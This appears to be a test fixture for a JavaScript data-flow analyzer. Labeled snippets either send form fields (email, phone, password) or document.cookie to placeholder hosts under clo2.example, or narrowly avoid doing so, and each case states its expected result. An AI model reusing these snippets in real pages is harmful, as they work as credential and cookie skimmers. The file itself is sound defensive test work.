//# captured-variable
// flow: email > cap.clo2.example via fetch
function make(v) { return function () { return fetch('https://cap.clo2.example/', { method: 'POST', body: v }); }; }
make(document.querySelector('input[type=email]').value)();

//# closure-not-called
// no flow
// why: the closure is made and dropped
function make0(v) { return function () { return fetch('https://cap0.clo2.example/', { method: 'POST', body: v }); }; }
(function () { make0(document.querySelector('input[type=email]').value); })();

//# shadowed-parameter
// no flow
// why: the parameter v hides the outer v
(function () {
  const v = document.querySelector('input[type=email]').value;
  (function (v) { fetch('https://shad0.clo2.example/', { method: 'POST', body: v }); })('fixed');
  console.log(v.length);
})();

//# curried
// flow: phone > cur.clo2.example via xhr
const post = (url) => (body) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send(body); };
post('https://cur.clo2.example/')(document.querySelector('input[type=tel]').value);

//# two-closures-two-hosts
// flow: phone > one.clo2.example via fetch
// no destination: three.clo2.example
// why: near miss: the second host gets a fixed text
const to = (host) => (body) => fetch('https://' + host + '/', { method: 'POST', body });
const one = to('one.clo2.example');
const two = to('two.clo2.example');
one(document.querySelector('input[type=tel]').value);
two('hello');

//# map-constant
// no flow
// why: the mapping function throws the values away
const vals = [document.querySelector('input[type=tel]').value];
fetch('https://map0.clo2.example/', { method: 'POST', body: vals.map(() => '*').join() });

//# map-transform
// flow: phone > map.clo2.example via fetch
const vs = [document.querySelector('input[type=tel]').value];
fetch('https://map.clo2.example/', { method: 'POST', body: vs.map((v) => v.replace(/\s/g, '')).join() });

//# reduce-to-query
// flow: identifier > red.clo2.example via image
const qs = [['c', document.cookie], ['v', '1']].reduce((s, [k, v]) => s + k + '=' + encodeURIComponent(v) + '&', '?');
new Image().src = 'https://red.clo2.example/p' + qs;

//# reduce-length
// no flow
// why: only the sum of the lengths is sent
const n = [document.cookie, 'x'].reduce((sum, s) => sum + s.length, 0);
new Image().src = 'https://red0.clo2.example/p?n=' + n;

//# counter-closure
// no flow
// why: the closure counts calls, it keeps no argument
const counter = (() => { let k = 0; return (v) => ++k; })();
fetch('https://cnt0.clo2.example/?n=' + counter(document.querySelector('input[type=search]').value));

//# compose
// flow: search > comp.clo2.example via fetch
const compose = (...fs) => (v) => fs.reduceRight((acc, f) => f(acc), v);
compose((u) => fetch(u), (q) => 'https://comp.clo2.example/?q=' + q, encodeURIComponent)(
  document.querySelector('input[type=search]').value
);

//# function-apply
// flow: password > app.clo2.example via fetch
function deliver(url, body) { fetch(url, { method: 'POST', body: body }); }
deliver.apply(null, ['https://app.clo2.example/', document.querySelector('input[type=password]').value]);

//# extra-argument
// no flow
// why: the function has no second parameter and does not read arguments
function ping(url) { fetch(url); }
ping('https://ext0.clo2.example/', document.querySelector('input[type=password]').value);

//# default-parameter-unused
// no flow
// why: an argument is given, so the default is not read
function hit(v = document.cookie) { fetch('https://def0.clo2.example/?v=' + v); }
hit('fixed');

//# constant-function
// no flow
// why: always(v) ignores its later argument
const always = (v) => () => v;
const fixed = always('fixed');
fetch('https://alw0.clo2.example/?v=' + fixed(document.cookie));

//# every-callback
// no flow
// why: every gives a boolean
const filled = [document.querySelector('input[type=email]').value].every((v) => v.length > 3);
fetch('https://ev0.clo2.example/?ok=' + filled);
